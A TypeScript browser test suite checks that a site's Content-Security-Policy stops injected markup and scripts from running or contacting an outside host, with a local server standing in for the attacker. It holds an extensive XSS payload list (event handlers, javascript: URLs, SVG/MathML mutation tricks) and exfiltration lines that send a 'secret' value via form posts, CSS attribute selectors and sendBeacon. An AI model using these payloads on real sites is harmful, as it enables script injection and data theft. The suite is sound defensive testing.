// As if markup had got into a page: what the page's policy lets run, and what it lets out.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { EVERYWHERE } from '../../src/hosting/headers.ts';
import { staticHost, type StaticHost } from '../static-host.ts';
import { ROOT, UNDER } from './serve.ts';
import { freshContext, KINDS, useBrowser } from './site.ts';

useBrowser();

// Elsewhere: lets anybody in, from anywhere, and hears of each who comes.
const heard: string[] = [];
let elsewhere: Server;
let at: string;
beforeAll(async () => {
  elsewhere = createServer(({ url }, response) => {
    heard.push(url!);
    response.writeHead(200, {
      'Access-Control-Allow-Origin': '*',
      'Cross-Origin-Resource-Policy': 'cross-origin',
      'Content-Type': 'text/javascript',
    });
    response.end('top.ran = 1');
  });
  elsewhere.on('upgrade', ({ url }, socket) => {
    heard.push(url!);
    socket.destroy();
  });
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
  at = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
});
beforeEach(() => void heard.splice(0));
afterAll(() => {
  elsewhere.closeAllConnections();
  elsewhere.close();
});

const RUN = 'void(top.ran=1)';
const MODULE = encodeURIComponent('top.ran=1;export{}');

/**
 * Markup as a hole would let it in; `AT` stands for elsewhere, and what has the class `click` is
 * clicked.
 */
const MARKUP: Record<string, string> = {
  script: `<script>${RUN}</script>`,
  'script of another type': `<script type="module">${RUN}</script><script type="importmap">{"imports":{"x":"AT/importmap"}}</script>`,
  'script from elsewhere': '<script src="AT/script"></script>',
  'script of data:': `<script src="data:text/javascript,${MODULE}"></script><script type="module" src="data:text/javascript,${MODULE}"></script>`,
  srcdoc: `<iframe srcdoc="<script>${RUN}</script><img src=x onerror='${RUN}'><script src='data:text/javascript,${MODULE}'></script>"></iframe>`,
  'srcdoc from elsewhere':
    "<iframe srcdoc=\"<img src='AT/srcdoc'><script src='AT/srcdoc'></script><link rel=stylesheet href='AT/srcdoc'>\"></iframe>",
  'srcdoc that is sandboxed': `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>${RUN}</script>"></iframe>`,
  'frames of data:, javascript: and elsewhere': `<iframe src="data:text/html,<script>fetch('AT/data-frame')</script>"></iframe><iframe src="javascript:${RUN}"></iframe><iframe src="AT/iframe"></iframe>`,
  handlers: `<img src=x onerror="${RUN}"><svg onload="${RUN}"></svg><details open ontoggle="${RUN}"></details><input autofocus onfocus="${RUN}"><style onload="${RUN}"></style><body onpageshow="${RUN}">`,
  'handlers that animations start': `<style>@keyframes x{}</style><p style="animation:x 1ms" onanimationend="${RUN}">x</p><marquee onstart="${RUN}"></marquee><video onerror="${RUN}"><source onerror="${RUN}"></video>`,
  'javascript: links': `<a class="click" href="javascript:${RUN}">x</a>`,
  'javascript: forms': `<form action="javascript:${RUN}"><button class="click">x</button></form>`,
  'forms that go elsewhere':
    '<form action="AT/form" method="post"><input name="x" value="secret"><button class="click">x</button></form>',
  'buttons that go elsewhere':
    '<form action="/"><button class="click" formaction="AT/formaction">x</button></form>',
  objects: `<object data="AT/object"></object><object data="javascript:${RUN}"></object><object data="data:text/html,<script>${RUN}</script>"></object><embed src="AT/embed"><applet code="AT/applet"></applet>`,
  links: [
    'stylesheet',
    'import',
    'preload" as="script',
    'preload" as="fetch',
    'modulepreload',
    'prefetch',
    'icon',
    'manifest',
    'prerender',
  ]
    .map((rel) => `<link rel="${rel}" href="AT/link">`)
    .join(''),
  'a module of data:, ahead of time': `<link rel="modulepreload" href="data:text/javascript,${MODULE}">`,
  'another base': '<base href="AT/base/"><script src="base.js"></script><img src="base.png">',
  styles:
    '<style>@import url(AT/import);@font-face{font-family:x;src:url(AT/font)}body{background:url(AT/background);font-family:x;cursor:url(AT/cursor),auto;list-style-image:url(AT/list)}</style><p style="background:url(AT/style)">x</p>',
  'a style that reads a field':
    '<input value="secret" class="field"><style>.field[value^=s]{background:url(AT/s)}</style>',
  pictures:
    '<img src="AT/img"><img srcset="AT/srcset 1x"><picture><source srcset="AT/source"><img></picture><input type="image" src="AT/input"><table background="AT/table"><tr><td>x</table>',
  sounds:
    '<video src="AT/video" poster="AT/poster"></video><audio src="AT/audio" autoplay></audio><video><source src="AT/source"><track src="AT/track" default></video>',
  SVG: `<svg><script>${RUN}</script><use href="AT/use#x"></use><image href="AT/image"></image><a href="javascript:${RUN}"><animate attributeName="href" values="javascript:${RUN}"/><set attributeName="onmouseover" to="${RUN}"/></a><filter><feImage href="AT/feimage"/></filter></svg><svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x"></svg>`,
  MathML: `<math><mtext><mglyph><style><!--</style><img title="--><img src=1 onerror=${RUN}>"></mglyph></mtext><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
  'a link that tells elsewhere': '<a class="click" href="#x" ping="AT/ping">x</a>',
  'a template with a shadow': `<div><template shadowrootmode="open"><script>${RUN}</script><img src="AT/shadow" onerror="${RUN}"></template></div>`,
  'rules of speculation':
    '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["AT/prefetch"]}],"prerender":[{"source":"list","urls":["AT/prerender"]}]}</script>',
  'a portal and a fence':
    '<portal src="AT/portal"></portal><fencedframe src="AT/fence"></fencedframe>',
};

/**
 * What a script would try if it ran after all; here it's told to by the test. Each gives or
 * promises something only if it got through; `AT` as above.
 */
const SCRIPTS: Record<string, string> = {
  eval: '(0, eval)("1")',
  'new Function': 'new Function("return 1")()',
  'a function of generators': '(function* () {}).constructor("yield 1")().next()',
  setTimeout:
    'new Promise((ok, no) => { setTimeout("self.late = 1"); setTimeout(() => (self.late ? ok() : no()), 50); })',
  'import() of data:': 'import("data:text/javascript,export default 1")',
  'import() of blob:':
    'import(URL.createObjectURL(new Blob(["export default 1"], { type: "text/javascript" })))',
  'import() from elsewhere': 'import("AT/import")',
  'a script of blob:':
    'new Promise((ok, no) => document.body.append(Object.assign(document.createElement("script"), { src: URL.createObjectURL(new Blob(["1"])), onload: ok, onerror: no })))',
  'a worker of data:':
    'new Promise((ok, no) => { const it = new Worker("data:text/javascript,postMessage(1)"); it.onmessage = ok; it.onerror = no; })',
  'a worker of blob:':
    'new Promise((ok, no) => { const it = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); it.onmessage = ok; it.onerror = no; })',
  'a shared worker of blob:':
    'new Promise((ok, no) => { const it = new SharedWorker(URL.createObjectURL(new Blob(["onconnect = ({ ports }) => ports[0].postMessage(1)"]))); it.port.onmessage = ok; it.onerror = no; })',
  'a javascript: address':
    'new Promise((ok, no) => { const it = document.createElement("iframe"); it.src = "javascript:parent.js = 1"; document.body.append(it); setTimeout(() => (self.js ? ok() : no()), 100); })',
  fetch: 'fetch("AT/fetch")',
  'fetch without CORS': 'fetch("AT/no-cors", { mode: "no-cors" })',
  XMLHttpRequest:
    'new Promise((ok, no) => { const it = new XMLHttpRequest(); it.onload = ok; it.onerror = no; it.open("GET", "AT/xhr"); it.send(); })',
  EventSource:
    'new Promise((ok, no) => { const it = new EventSource("AT/events"); it.onopen = ok; it.onerror = no; })',
  WebSocket:
    'new Promise((ok, no) => { const it = new WebSocket("AT/ws".replace("http", "ws")); it.onopen = ok; it.onerror = no; })',
  sendBeacon:
    // says true, and is then refused
    'new Promise((ok, no) => { navigator.sendBeacon("AT/beacon", "secret"); setTimeout(no, 200); })',
};

const withMarkup = (html: string): string =>
  html.replace('</main>', `${Object.values(MARKUP).join('\n').replaceAll('AT/', `${at}/`)}</main>`);

/** What came of it: whether a script ran, and where the page is now. */
async function suffer(page: Page): Promise<{ ran: boolean; at: string }> {
  await page.evaluate(async () => {
    for (const it of document.querySelectorAll<HTMLElement>('.click')) {
      it.click();
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
  });
  await page.waitForTimeout(500);
  return { ran: await page.evaluate(() => 'ran' in window), at: page.url().replace(/#.*/, '') };
}

async function onHost(
  options: Parameters<typeof staticHost>[1] & { root: string },
  work: (page: Page, host: StaticHost) => Promise<void>,
): Promise<void> {
  const host = await staticHost(options.root, options);
  const context = await freshContext();
  try {
    await work(await context.newPage(), host);
  } finally {
    await context.close();
    host.close();
  }
}

describe.each([
  ['with headers', { root: ROOT, base: '/', headers: EVERYWHERE }],
  ['without headers', UNDER],
])('on a host %s', (_, place) => {
  test.each(KINDS)('%s: markup that got in runs nothing, and nothing leaves', async (path) => {
    await onHost({ ...place, change: withMarkup }, async (page, host) => {
      const address = host.origin + place.base + path.slice(1);
      await page.goto(address);
      expect(await page.locator('.click').count()).toBe(5);
      expect([await suffer(page), heard]).toEqual([{ ran: false, at: address }, []]);
    });
  });

  test.each(KINDS)(
    '%s: nor would a script, if there were one, make others or get out',
    async (path) => {
      await onHost(place, async (page, host) => {
        // Scripts of Playwright's may do more than the page's own while it waits for them: so these
        // do it when the page has loaded.
        const attempts = Object.entries(SCRIPTS).map(
          ([what, script]) =>
            `[${JSON.stringify(what)}, async () => ${script.replaceAll('AT/', `${at}/`)}]`,
        );
        await page.addInitScript(`addEventListener('load', async () => {
        const through = [];
        for (const [what, attempt] of [${attempts.join(',')}]) await attempt().then(() => through.push(what), () => {});
        window.through = through;
      })`);
        await page.goto(host.origin + place.base + path.slice(1));
        await page.waitForFunction(() => 'through' in window);
        expect([
          await page.evaluate(() => (window as unknown as { through: string[] }).through),
          heard,
        ]).toEqual([[], []]);
      });
    },
  );
});

test('without the policy the same markup runs, and is heard of elsewhere', async () => {
  const bare = (html: string): string =>
    withMarkup(html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ''));
  await onHost({ ...UNDER, change: bare }, async (page, host) => {
    // nothing is clicked: it would lead away
    await page.goto(`${host.origin}${UNDER.base}glossary/`);
    await page.waitForFunction(() => 'ran' in window);
    const LOUD = [
      '/script',
      '/srcdoc',
      '/iframe',
      '/object',
      '/embed',
      '/link',
      '/import',
      '/background',
      '/style',
      '/s',
      '/img',
      '/poster',
      '/image',
      '/shadow',
    ];
    await expect.poll(() => LOUD.filter((path) => !heard.includes(path))).toEqual([]);
  });
});
